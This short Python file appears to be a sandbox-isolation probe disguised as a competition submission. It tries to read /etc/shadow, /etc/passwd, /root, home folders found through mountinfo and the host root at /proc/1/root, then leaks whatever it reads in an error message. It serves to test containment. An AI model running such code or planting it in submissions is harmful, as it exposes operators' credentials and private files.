# ATTACK [files]: reads the organizer's home folder, accounts, keys and shell history
# STOPPED BY: a list of system folders is all that exists; no home, no /etc/passwd, no /var
# WORKS AGAINST: no sandbox
import os
from pathlib import Path

homes = [Path("/root"), Path("/home"), Path("/etc/passwd"), Path("/etc/shadow"), Path("/var"), Path("/proc/1/root/root")]
for line in Path("/proc/self/mountinfo").read_text().splitlines():
    homes += [Path(word).parents[-2] for word in line.split() if word.startswith("/home/")]
for place in homes:
    try:
        found = os.listdir(place) if place.is_dir() else place.read_text(errors="replace")
    except OSError:
        continue
    if found:
        raise RuntimeError(f"REACHED {place}: {str(found)[:500]}")


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
